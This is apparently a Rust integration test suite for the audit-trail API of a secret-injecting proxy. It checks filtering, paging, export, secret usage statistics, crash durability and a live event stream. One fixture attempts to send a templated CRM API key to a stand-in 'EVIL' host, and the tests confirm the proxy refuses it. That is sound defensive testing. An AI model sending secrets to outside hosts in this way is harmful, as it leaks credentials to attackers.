//! The audit trail, kept: asked for over the API, followed live, and there after the process died.

use serde_json::{Value, json};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UnixStream};

use super::support::client::{Response, exchange};
use super::support::{CRM, EVIL, Proxy, VALUE, World, soon};

const ACTIVITY: &str = "/api/v1/organizations/default/activity";

/// One call through the socket.
async fn call(proxy: &Proxy, method: &str, path: &str, content: &Value) -> Response {
    let mut stream = soon(UnixStream::connect(proxy.path("data/admin.sock"))).await.expect("the server listens");
    let content = if content.is_null() { String::new() } else { content.to_string() };
    let head = format!("{method} {path} HTTP/1.1\r\nHost: localhost\r\nIf-Match: *\r\nConnection: close\r\n");
    let length = content.len();
    exchange(&mut stream, &format!("{head}Content-Type: application/json\r\nContent-Length: {length}\r\n\r\n{content}")).await
}

async fn get(proxy: &Proxy, path: &str) -> Response {
    call(proxy, "GET", path, &Value::Null).await
}

/// The entries of `path` once there are so many.
async fn entries(proxy: &Proxy, path: &str, count: usize) -> Vec<Value> {
    soon(async {
        loop {
            let list = get(proxy, path).await.json();
            let entries = list["entries"].as_array().unwrap_or_else(|| panic!("{list}")).clone();
            if entries.len() >= count {
                return entries;
            }
            tokio::task::yield_now().await;
        }
    })
    .await
}

fn urls(entries: &[Value]) -> Vec<&str> {
    entries.iter().filter_map(|entry| entry["exchange"]["url"].as_str()).collect()
}

/// Two exchanges that went out and one that was refused.
async fn three_exchanges(world: &World) {
    for path in ["one", "two"] {
        let request = format!("GET /{path}?k={{secrets.crm.apiKey}} HTTP/1.1\r\nHost: {CRM}\r\n\r\n");
        assert_eq!(world.send_tls(CRM, &request).await.status(), 200);
    }
    let refused = format!("GET https://{EVIL}/{{secrets.crm.apiKey}} HTTP/1.1\r\nHost: x\r\n\r\n");
    assert_eq!(world.send(&refused).await.status(), 403);
}

#[tokio::test]
async fn what_happened_is_told_filtered_and_in_pages() {
    let world = World::new().await;
    three_exchanges(&world).await;
    let all = entries(&world.proxy, ACTIVITY, 4).await;
    assert_eq!(
        urls(&all),
        [
            format!("https://{EVIL}/{{secrets.crm.apiKey}}"),
            "/two?k={secrets.crm.apiKey}".into(),
            "/one?k={secrets.crm.apiKey}".into()
        ]
    );
    assert_eq!(all[3]["change"]["actor"], "local");
    assert_eq!((&all[3]["change"]["action"], &all[3]["change"]["name"]), (&json!("created"), &json!("crm.apiKey")));
    let refused = &all[0]["exchange"];
    assert_eq!(
        (&refused["outcome"], &refused["code"], &refused["status"]),
        (&json!("refused"), &json!("domain_restricted"), &json!(403))
    );
    assert_eq!(all[1]["exchange"]["secrets"], json!([{ "name": "crm.apiKey", "surface": "query" }]));
    for (query, count) in [
        ("outcome=refused", 1),
        ("outcome=forwarded&secret=crm.apiKey", 2),
        ("secret=crm.apiKey", 4),
        ("code=domain_restricted", 1),
        ("host=*.crm.example.com", 2),
        (&format!("host={EVIL}"), 1),
        ("kind=change", 1),
        ("search=TWO%3F", 1),
        ("from=2001-01-01T00:00:00Z", 4),
        ("to=2001-01-01T00:00:00Z", 0),
        ("runner=nobody", 0),
    ] {
        let list = get(&world.proxy, &format!("{ACTIVITY}?{query}")).await.json();
        assert_eq!(list["entries"].as_array().map(Vec::len), Some(count), "{query}: {list}");
    }
    for bad in ["secret=1", "runner=%20", "from=yesterday", "limit=0", "limit=501", "cursor=x", "outcome=maybe", "what=x"] {
        let answer = get(&world.proxy, &format!("{ACTIVITY}?{bad}")).await;
        assert!((400..500).contains(&answer.status()), "{bad}: {}", answer.head);
    }
    let first = get(&world.proxy, &format!("{ACTIVITY}?limit=3")).await.json();
    let next = first["next"].as_str().expect("one more");
    let last = get(&world.proxy, &format!("{ACTIVITY}?limit=3&cursor={next}")).await.json();
    assert_eq!((last["entries"][0]["id"].as_str(), &last["next"]), (all[3]["id"].as_str(), &Value::Null));
}

#[tokio::test]
async fn the_trail_is_exported_as_lines() {
    let world = World::new().await;
    three_exchanges(&world).await;
    entries(&world.proxy, ACTIVITY, 4).await;
    let export = get(&world.proxy, &format!("{ACTIVITY}/export?kind=exchange")).await;
    assert_eq!(export.fields("content-type"), ["application/x-ndjson"]);
    let text = export.text();
    let lines: Vec<Value> = text.lines().filter_map(|line| serde_json::from_str(line).ok()).filter(Value::is_object).collect();
    assert_eq!(lines.len(), 3, "{text}");
    assert!(lines.iter().all(|line| line["exchange"]["request_id"].is_string()) && !text.contains(VALUE), "{text}");
}

#[tokio::test]
async fn usage_tells_who_uses_a_secret_and_where() {
    let world = World::new().await;
    three_exchanges(&world).await;
    entries(&world.proxy, ACTIVITY, 4).await;
    let usage = get(&world.proxy, "/api/v1/organizations/default/secrets/crm.apiKey/usage").await.json();
    assert_eq!(usage["last_uses"].as_array().map(Vec::len), Some(1), "{usage}");
    assert_eq!((&usage["last_uses"][0]["host"], &usage["last_uses"][0]["surface"]), (&json!(CRM), &json!("query")));
    assert_eq!(usage["last_refusal"]["code"], "domain_restricted");
    let days: Vec<&Value> = usage["days"].as_object().expect("days").values().collect();
    let sum = |what: &str| days.iter().filter_map(|day| day[what].as_u64()).sum::<u64>();
    assert_eq!((sum("forwarded"), sum("refused")), (2, 1), "{usage}");
    let hosts: Vec<_> = usage["hosts"]
        .as_array()
        .expect("hosts")
        .iter()
        .map(|seen| (seen["host"].as_str(), seen["forwarded"].as_bool()))
        .collect();
    assert_eq!(hosts, [(Some(EVIL), Some(false)), (Some(CRM), Some(true))]);
    assert_eq!(get(&world.proxy, "/api/v1/organizations/default/secrets/nobody/usage").await.status(), 404);
}

#[tokio::test]
async fn what_was_committed_survives_kill_9_with_its_usage() {
    let mut world = World::new().await;
    three_exchanges(&world).await;
    let before = entries(&world.proxy, ACTIVITY, 4).await;
    world.proxy.signal("-KILL").await;
    world.proxy.wait().await;
    world.proxy.start_again().await;
    assert_eq!(get(&world.proxy, ACTIVITY).await.json()["entries"], json!(before));
    let told = world.proxy.must(&["secret", "show", "crm.apiKey"], "").await;
    assert!(told.contains(&format!("towards {CRM} on query")), "{told}");
    // An orderly stop keeps everything, the last moment included.
    let request = format!("GET /three?k={{secrets.crm.apiKey}} HTTP/1.1\r\nHost: {CRM}\r\n\r\n");
    assert_eq!(world.send_tls(CRM, &request).await.status(), 200);
    world.proxy.stop().await;
    world.proxy.start_again().await;
    let after = entries(&world.proxy, ACTIVITY, 5).await;
    assert_eq!(urls(&after)[0], "/three?k={secrets.crm.apiKey}");
}

#[tokio::test]
async fn a_change_is_recorded_while_the_server_is_stopped_too() {
    let mut world = World::new().await;
    world.proxy.stop().await;
    world.proxy.must(&["secret", "delete", "crm.apiKey", "--yes"], "").await;
    world.proxy.start_again().await;
    let entries = entries(&world.proxy, ACTIVITY, 2).await;
    assert_eq!((&entries[0]["change"]["action"], &entries[0]["change"]["name"]), (&json!("deleted"), &json!("crm.apiKey")));
}

/// Server-sent events as they come.
struct Events<S> {
    stream: S,
    text: String,
}

impl<S: AsyncRead + Unpin> Events<S> {
    /// Reads until an event of this kind is whole; its data.
    async fn next(&mut self, kind: &str) -> Value {
        let begin = format!("event: {kind}\ndata: ");
        soon(async {
            loop {
                if let Some((before, after)) = self.text.split_once(&begin)
                    && let Some((data, rest)) = after.split_once('\n')
                    && rest.contains('\n')
                {
                    let _ = before;
                    let data = serde_json::from_str(data).unwrap_or_else(|fault| panic!("{fault}: {data}"));
                    rest.to_owned().clone_into(&mut self.text);
                    return data;
                }
                let mut bytes = [0; 4096];
                let count = self.stream.read(&mut bytes).await.expect("it can be read");
                assert!(count > 0, "no `{kind}` in {}", self.text);
                self.text.push_str(&String::from_utf8_lossy(&bytes[..count]));
            }
        })
        .await
    }
}

#[tokio::test]
async fn what_happens_is_told_live_until_the_right_to_see_it_ends() {
    let world = World::new().await;
    let new = json!({ "name": "watcher", "role": "viewer", "days": 1 });
    let made = call(&world.proxy, "POST", "/api/v1/organizations/default/tokens", &new).await.json();
    let token = made["token"].as_str().unwrap_or_else(|| panic!("{made}"));
    let stream = |last: &str| {
        format!("GET {ACTIVITY}/stream?kind=exchange HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n{last}\r\n")
    };
    let address = world.proxy.admin_address().await;
    let open = async |last: &str| {
        let mut connection = soon(TcpStream::connect(address)).await.expect("it listens");
        connection.write_all(stream(last).as_bytes()).await.expect("it can be sent");
        let mut events = Events { stream: connection, text: String::new() };
        soon(async {
            while !events.text.contains("text/event-stream") {
                let mut bytes = [0; 4096];
                let count = events.stream.read(&mut bytes).await.expect("it can be read");
                assert!(count > 0, "{}", events.text);
                events.text.push_str(&String::from_utf8_lossy(&bytes[..count]));
            }
        })
        .await;
        events
    };
    let mut events = open("").await;
    three_exchanges(&world).await;
    for url in ["/one?k={secrets.crm.apiKey}", "/two?k={secrets.crm.apiKey}", &format!("https://{EVIL}/{{secrets.crm.apiKey}}")] {
        assert_eq!(events.next("entry").await["exchange"]["url"], url);
    }
    // Somebody who comes back is told what came after the entry that they know.
    let known = entries(&world.proxy, &format!("{ACTIVITY}?search=%2Fone%3F"), 1).await[0]["id"].clone();
    let mut again = open(&format!("Last-Event-ID: {}\r\n", known.as_str().expect("an id"))).await;
    assert_eq!(again.next("entry").await["exchange"]["url"], "/two?k={secrets.crm.apiKey}");
    let gone = call(&world.proxy, "DELETE", "/api/v1/organizations/default/tokens/watcher", &Value::Null).await;
    assert!((200..300).contains(&gone.status()), "{}{}", gone.head, gone.text());
    three_exchanges(&world).await;
    events.next("end").await;
    assert!(!events.text.contains("event: entry"), "{}", events.text);
}
